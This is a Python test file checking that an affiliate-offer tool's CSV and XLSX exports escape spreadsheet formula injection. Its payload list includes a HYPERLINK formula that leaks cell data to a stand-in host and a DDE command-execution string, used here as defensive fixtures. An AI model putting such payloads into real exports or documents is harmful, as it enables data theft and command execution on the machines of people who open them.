"""Exports that a spreadsheet opens never run a formula (CSV and XLSX injection): offer
names and links come from networks' files, and any of them may start like one."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from affilitest_gui.history.export import export_csv, read_csv
from affilitest_gui.history.store import HistoryStore
from affilitest_gui.judging.health import Health
from affilitest_gui.judging.records import HistoryRecord
from affilitest_gui.offers.importing import plan_import, read_table
from affilitest_gui.offers.model import Offer
from affilitest_gui.offers_cli import run
from affilitest_gui.paths import DATA_DIR_VARIABLE

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1)",
    "-2+3",
)


@pytest.fixture
def store(tmp_path, monkeypatch):
    monkeypatch.setenv(DATA_DIR_VARIABLE, str(tmp_path / "data"))
    (tmp_path / "data").mkdir()
    opened = HistoryStore(tmp_path / "data" / "history.sqlite3")
    for number, payload in enumerate(PAYLOADS):
        opened.offers.save(Offer(f"https://t.example/{number}", ("us",), ("android",),
                                 offer_id=payload, name=payload))  # fmt: skip
    yield opened
    opened.close()


def export(path, *args) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    status = run(["export", str(path), *args], stdout=out, stderr=err, environ={})
    return status, out.getvalue(), err.getvalue()


def test_the_offers_csv_writes_each_payload_as_text(store, tmp_path):
    path = tmp_path / "offers.csv"
    status, out, _ = export(path)
    assert status == 0
    assert json.loads(out) == {"file": str(path), "offers": 5, "rows": 5}
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["name"] for row in rows) == sorted("'" + p for p in PAYLOADS)
    assert sorted(row["offer_id"] for row in rows) == sorted("'" + p for p in PAYLOADS)


def test_the_offers_xlsx_stores_strings_never_formulas(store, tmp_path):
    path = tmp_path / "offers.xlsx"
    assert export(path)[0] == 0
    sheet = load_workbook(path).active  # formulas, if any, stay formulas here
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert cells and all(cell.data_type == "s" for cell in cells)  # no "f" anywhere
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted("'" + p for p in PAYLOADS)


def test_an_exported_file_imports_back_to_the_same_names(store, tmp_path):
    path = tmp_path / "offers.xlsx"
    export(path)
    table = read_table(path)
    header = [cell.lower() for cell in table[0]]
    plan = plan_import(table, {**_mapping(header)})
    assert sorted(offer.name for _, offer in plan.offers) == sorted(PAYLOADS)


def _mapping(header: list[str]) -> dict:
    from affilitest_gui.offers.importing import Field

    return {Field.OFFER_ID: header.index("offer_id"), Field.NAME: header.index("name"),
            Field.URL: header.index("tracking_link"), Field.COUNTRIES: header.index("country"),
            Field.DEVICES: header.index("device"), Field.EXPECT: None,
            Field.PREVIEW: None}  # fmt: skip


def test_the_log_export_writes_text_cells_as_text_and_reads_them_back(tmp_path):
    records = [
        HistoryRecord(checked_at="2026-12-02T10:00:00Z", url=f"https://t.example/{n}",
                      country="us", device="android", outcome="ok", verdict=payload,
                      health=Health.OK, attempts=1, duration_s=-0.0 if n else 1.5)
        for n, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    path = tmp_path / "log.csv"
    assert export_csv(records, path) == 5
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["verdict"] for row in rows] == ["'" + p for p in PAYLOADS]
    assert rows[0]["attempts"] == "1" and rows[0]["duration_s"] == "1.5"  # numbers as numbers
    assert [record.verdict for record in read_csv(path)] == list(PAYLOADS)


def test_an_export_that_cannot_be_written_exits_2_with_a_sentence(store, tmp_path):
    folder = tmp_path / "taken.xlsx"
    folder.mkdir()
    status, out, err = export(folder)
    assert status == 2 and out == ""
    assert err.startswith(f"affilitest-offers: cannot write {folder}: ") and "Traceback" not in err
    status, _, err = export(tmp_path / "offers.txt")
    assert status == 2 and "must end in .xlsx or .csv" in err


def test_only_broken_exports_the_offers_broken_now(store, tmp_path):
    path = tmp_path / "broken.csv"
    status, out, _ = export(path, "--only", "broken")
    assert status == 0 and json.loads(out)["offers"] == 0  # none checked, none broken
